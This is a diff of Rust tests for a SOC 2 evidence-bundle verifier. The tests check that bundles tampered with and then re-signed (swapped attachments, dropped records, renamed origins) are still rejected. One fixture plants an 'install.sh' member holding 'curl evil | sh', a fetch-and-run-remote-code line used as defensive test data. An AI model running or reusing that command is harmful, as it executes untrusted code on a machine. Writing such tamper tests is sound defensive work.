@@ -52,6 +52,7 @@ fn note(observed: &str, title: &str, attachments: Vec<Attachment>) -> Evidence {
         source: "manual".into(),
         attachments,
         payload: Payload::Note(Note { title: title.into(), body: String::new() }),
+        provenance: None,
     }
 }
 
@@ -653,6 +654,7 @@ fn run_verify_md(bundle: &Path, trusted: &Path, work: &Path) -> (bool, String, S
         .current_dir(work)
         .env("BUNDLE", bundle)
         .env("TRUSTED", trusted)
+        .env("ORIGIN", ORIGIN)
         .env("LC_ALL", "C.UTF-8")
         .output()
         .unwrap();
@@ -682,8 +684,8 @@ fn auditor_verifies_with_stock_tools() {
     let blocks = sh_blocks(&m.text(VERIFY_MD));
     assert_eq!(
         blocks.len(),
-        7,
-        "extract, signature, sums, member list, records, signed checkpoints, verify.py"
+        8,
+        "extract, signature, sums, attachments, member list, records, signed checkpoints, verify.py"
     );
     assert!(blocks[1].starts_with(
         "ssh-keygen -Y verify -f \"$TRUSTED\" -I auditor-contact@example.com -n soc2-evidence-bundle-v1 -s SHA256SUMS.sig < SHA256SUMS"
@@ -702,6 +704,8 @@ fn auditor_verifies_with_stock_tools() {
     assert!(stdout.contains("records.jsonl: OK"), "{stdout}");
     assert!(stdout.contains("member list: OK"), "{stdout}");
     assert!(stdout.contains("records: OK, 3 records match the root of 5 leaves"), "{stdout}");
+    assert!(stdout.contains("attachments: OK"), "{stdout}");
+    assert!(stdout.contains("manifest: OK"), "{stdout}");
     assert!(
         said.contains("Good \"soc2-checkpoint-v1\" signature for auditor-contact@example.com"),
         "{said}"
@@ -739,6 +743,141 @@ fn auditor_verifies_with_stock_tools() {
         let (ok, stdout, stderr) = run_verify_md(&path, &trusted, &work);
         assert!(!ok, "{what}: accepted\n{stdout}\n{stderr}");
     }
+}
+
+/// Issue 16, hole 1: the company signs the bundle, so it is the party the auditor must
+/// not have to trust. Each bundle here was tampered with and then re-signed with the
+/// company's own (trusted) key, with `SHA256SUMS` recomputed: the signature and
+/// `sha256sum -c` pass. The stock path of VERIFY.md must still fail, at the step named
+/// (the expected text is written by hand), and so must `soc2 verify`.
+#[test]
+fn resigned_tampering_is_caught_by_the_stock_path_and_by_soc2_verify() {
+    if !stock_tools(&["bash", "ssh-keygen", "sha256sum", "unzip", "python3", "diff", "awk"]) {
+        return;
+    }
+    let f = Fixture::new();
+    let mut options = ExportOptions::new(period());
+    options.report_files = vec![("readiness.json".into(), b"{}\n".to_vec())];
+    let bundle = f.path("clean.zip");
+    export(&f.locker, &options, &f.signer, &bundle).unwrap();
+    let trusted = f.path("trusted_signers");
+    fs_err::write(&trusted, f.signer.allowed_signers_line()).unwrap();
+    let clean = Members::read(&bundle);
+    // The disclosed records are 1 (the CSV), 2 (no attachment) and 3 (the CSV and PNG).
+    let record_line = |m: &Members, seq: u64| -> String {
+        lines(&m.text(RECORDS))
+            .into_iter()
+            .find(|l| l.starts_with("{\"evidence\"") && l.contains(&format!("\"seq\":{seq}}}")))
+            .unwrap()
+    };
+    let verify_expecting_origin = |path: &Path| {
+        let o = VerifyOptions { origin: Some(ORIGIN.to_owned()), ..VerifyOptions::default() };
+        verify_with(path, &f.trusted(), &o)
+    };
+    type Tamper = Box<dyn Fn(&mut Members)>;
+    type Expect = fn(&BundleError) -> bool;
+    let cases: Vec<(&str, Tamper, &str, Expect)> = vec![
+        (
+            "attachment swapped for other content of the same size",
+            Box::new(|m: &mut Members| {
+                let name = m.blob_names()[0].clone();
+                let mut b = m.get(&name).clone();
+                b[0] ^= 0xff;
+                m.set(&name, b);
+            }),
+            "attachments: FAILED",
+            |e| matches!(e, BundleError::BlobNameMismatch { .. }),
+        ),
+        (
+            "record line dropped",
+            Box::new(move |m: &mut Members| {
+                let drop = record_line(m, 2);
+                let kept: String =
+                    lines(&m.text(RECORDS)).into_iter().filter(|l| *l != drop).collect();
+                m.set(RECORDS, kept);
+            }),
+            "FAILED: manifest.json lists records [1, 2, 3], records.jsonl holds [1, 3]",
+            |e| matches!(e, BundleError::ManifestMismatch { field: "records", .. }),
+        ),
+        (
+            "record line duplicated",
+            Box::new(move |m: &mut Members| {
+                let twice = record_line(m, 2);
+                let doubled: String = lines(&m.text(RECORDS))
+                    .into_iter()
+                    .flat_map(|l| if l == twice { vec![l.clone(), l] } else { vec![l] })
+                    .collect();
+                m.set(RECORDS, doubled);
+            }),
+            "FAILED: record 2 (line 3) is not after record 2",
+            |e| matches!(e, BundleError::RecordOutOfPlace { seq: 2, line: 3, .. }),
+        ),
+        (
+            "report file listed in SHA256SUMS but not in the manifest",
+            Box::new(|m: &mut Members| m.set("report/extra.html", "<p>trust me</p>\n")),
+            "FAILED: manifest.json's report files are not the files under report/",
+            |e| matches!(e, BundleError::ManifestMismatch { field: "report", .. }),
+        ),
+        (
+            "member of no bundle kind listed in SHA256SUMS",
+            Box::new(|m: &mut Members| m.set("install.sh", "curl evil | sh\n")),
+            "FAILED: SHA256SUMS lists members that are not the bundle's: ['install.sh']",
+            |e| matches!(e, BundleError::UnexpectedMember { member } if member == "install.sh"),
+        ),
+        (
+            "attachment no record references",
+            Box::new(|m: &mut Members| {
+                let content = b"an unreferenced attachment";
+                let name =
+                    format!("{BLOBS_PREFIX}{}", Sha256Digest(Sha256::digest(content).into()));
+                m.set(&name, &content[..]);
+            }),
+            "FAILED: attachments present",
+            |e| matches!(e, BundleError::UnreferencedBlob { .. }),
+        ),
+        (
+            "manifest naming another origin",
+            Box::new(|m: &mut Members| {
+                m.edit_manifest(|v| v["origin"] = "example.com/soc2/other".into())
+            }),
+            "FAILED: manifest.json names the locker 'example.com/soc2/other', the checkpoint 'example.com/soc2/acme'",
+            |e| matches!(e, BundleError::ManifestMismatch { field: "origin", .. }),
+        ),
+        (
+            "another locker, consistently renamed",
+            Box::new(|m: &mut Members| {
+                let cp = m.text(CHECKPOINT).replacen(ORIGIN, "example.com/soc2/other", 1);
+                m.set(CHECKPOINT, cp);
+                m.edit_manifest(|v| v["origin"] = "example.com/soc2/other".into())
+            }),
+            "FAILED: the locker is 'example.com/soc2/other', not the 'example.com/soc2/acme' you expect",
+            |e| matches!(e, BundleError::OriginMismatch { found, .. } if found == "example.com/soc2/other"),
+        ),
+    ];
+    for (i, (what, tamper, stock_says, soc2_says)) in cases.iter().enumerate() {
+        let mut bad = clean.clone();
+        tamper(&mut bad);
+        bad.resign(&f.signer);
+        let path = f.path(&format!("resigned-{i}.zip"));
+        bad.write(&path);
+        let work = f.path(&format!("resigned-{i}"));
+        fs_err::create_dir(&work).unwrap();
+        let (ok, stdout, stderr) = run_verify_md(&path, &trusted, &work);
+        let said = format!("{stdout}{stderr}");
+        assert!(!ok, "{what}: the stock path accepted it\n{said}");
+        // Re-signed: the signature and SHA256SUMS steps pass; a later step fails.
+        assert!(said.contains("Good \"soc2-evidence-bundle-v1\" signature"), "{what}: {said}");
+        assert!(!said.contains("FAILED open or read"), "{what}: {said}");
+        assert!(said.contains(stock_says), "{what}: expected {stock_says:?}\n{said}");
+        match verify_expecting_origin(&path) {
+            Err(e) => assert!(soc2_says(&e), "{what}: soc2 verify said {e:?}"),
+            Ok(_) => panic!("{what}: soc2 verify accepted it"),
+        }
+    }
+    // Without an expected origin, a consistently renamed locker verifies: only the origin
+    // obtained out of band (ORIGIN, --origin) tells it from the real one.
+    let renamed = f.path(&format!("resigned-{}.zip", cases.len() - 1));
+    assert!(f.verify(&renamed).is_ok());
 }
 
 #[test]
@@ -1445,7 +1584,8 @@ fn rejects_local_name_differing_from_central() {
 #[test]
 fn rejects_overlapping_entries() {
     let f = Fixture::new();
-    let mut twin = RawEntry::stored("report/twin", b"x");
+    // Named to sort last (after `verify.py`): entries are written in name order.
+    let mut twin = RawEntry::stored("zz/twin", b"x");
     twin.in_local = false;
     twin.offset_override = Some(0);
     assert_err!(
@@ -1469,7 +1609,10 @@ fn rejects_bytes_before_the_archive() {
     let f = Fixture::new();
     let mut raw = f.raw();
     raw.prefix = b"#!/bin/sh\nexit 0\n".to_vec();
-    assert_err!(f.check_raw(&raw), BundleError::Archive(ArchiveError::PrependedData { .. }));
+    assert_err!(
+        f.check_raw(&raw),
+        BundleError::ArchiveRejected { source: ArchiveError::PrependedData { .. }, .. }
+    );
 }
 
 #[test]
@@ -1477,7 +1620,10 @@ fn rejects_bytes_after_the_end_record() {
     let f = Fixture::new();
     let mut raw = f.raw();
     raw.trailing = b"trailer".to_vec();
-    assert_err!(f.check_raw(&raw), BundleError::Archive(ArchiveError::TrailingData { len: 7 }));
+    assert_err!(
+        f.check_raw(&raw),
+        BundleError::ArchiveRejected { source: ArchiveError::TrailingData { len: 7 }, .. }
+    );
 }
 
 #[test]
@@ -1485,7 +1631,10 @@ fn rejects_archive_comment() {
     let f = Fixture::new();
     let mut raw = f.raw();
     raw.comment = b"verified OK".to_vec();
-    assert_err!(f.check_raw(&raw), BundleError::Archive(ArchiveError::ArchiveComment { len: 11 }));
+    assert_err!(
+        f.check_raw(&raw),
+        BundleError::ArchiveRejected { source: ArchiveError::ArchiveComment { len: 11 }, .. }
+    );
 }
 
 #[test]
@@ -1612,7 +1761,7 @@ fn rejects_total_over_the_size_limit() {
     });
     assert_err!(
         f.check_raw_with(&f.raw(), &options),
-        BundleError::Archive(ArchiveError::TotalSizeTooLarge { .. })
+        BundleError::ArchiveRejected { source: ArchiveError::TotalSizeTooLarge { .. }, .. }
     );
 }
 
@@ -1626,7 +1775,7 @@ fn rejects_more_entries_than_the_limit() {
     });
     assert_err!(
         f.check_raw_with(&f.raw(), &options),
-        BundleError::Archive(ArchiveError::TooManyEntries { .. })
+        BundleError::ArchiveRejected { source: ArchiveError::TooManyEntries { .. }, .. }
     );
 }
 
@@ -1691,4 +1840,35 @@ fn carried_signed_checkpoints_must_be_signed_by_the_trusted_key_and_extended() {
     );
     // A note without its SSH signature.
     reject(&|m| drop(m.0.remove(&format!("{note}.sig"))), ".note.sig is missing");
+}
+
+#[test]
+fn a_file_that_is_not_a_zip_is_named_and_classified() {
+    let f = Fixture::new();
+    let path = f.path("notes.txt");
+    fs_err::write(&path, b"just some text, not a bundle\n").unwrap();
+    let err = verify_with(&path, &f.trusted(), &VerifyOptions::default()).unwrap_err();
+    use crate::error::{Classify, ErrorClass, ErrorCode};
+    assert_eq!(err.code(), ErrorCode::ArchiveNotZip);
+    assert_eq!(err.class(), ErrorClass::Integrity);
+    assert_eq!(err.subject().path.as_deref(), Some(path.as_path()));
+    let message = err.to_string();
+    assert!(message.starts_with(&format!("{}: not a valid bundle: ", path.display())), "{message}");
+}
+
+#[test]
+fn a_tampered_member_names_its_member_record_and_code() {
+    use crate::error::{Classify, ErrorCode};
+    let err = BundleError::BlobSizeMismatch {
+        seq: 4,
+        sha256: Sha256Digest([0xab; 32]),
+        declared: 10,
+        actual: 11,
+    };
+    assert_eq!(err.code(), ErrorCode::BundleBlobSizeMismatch);
+    let s = err.subject();
+    assert_eq!(s.member.as_deref(), Some(&*format!("blobs/sha256/{}", "ab".repeat(32))));
+    assert_eq!((s.records, s.blob), (vec![4], Some(Sha256Digest([0xab; 32]))));
+    assert_eq!(err.code().as_str(), "bundle.blob_size_mismatch");
+    assert_eq!(err.class().exit_code(), 1);
 }
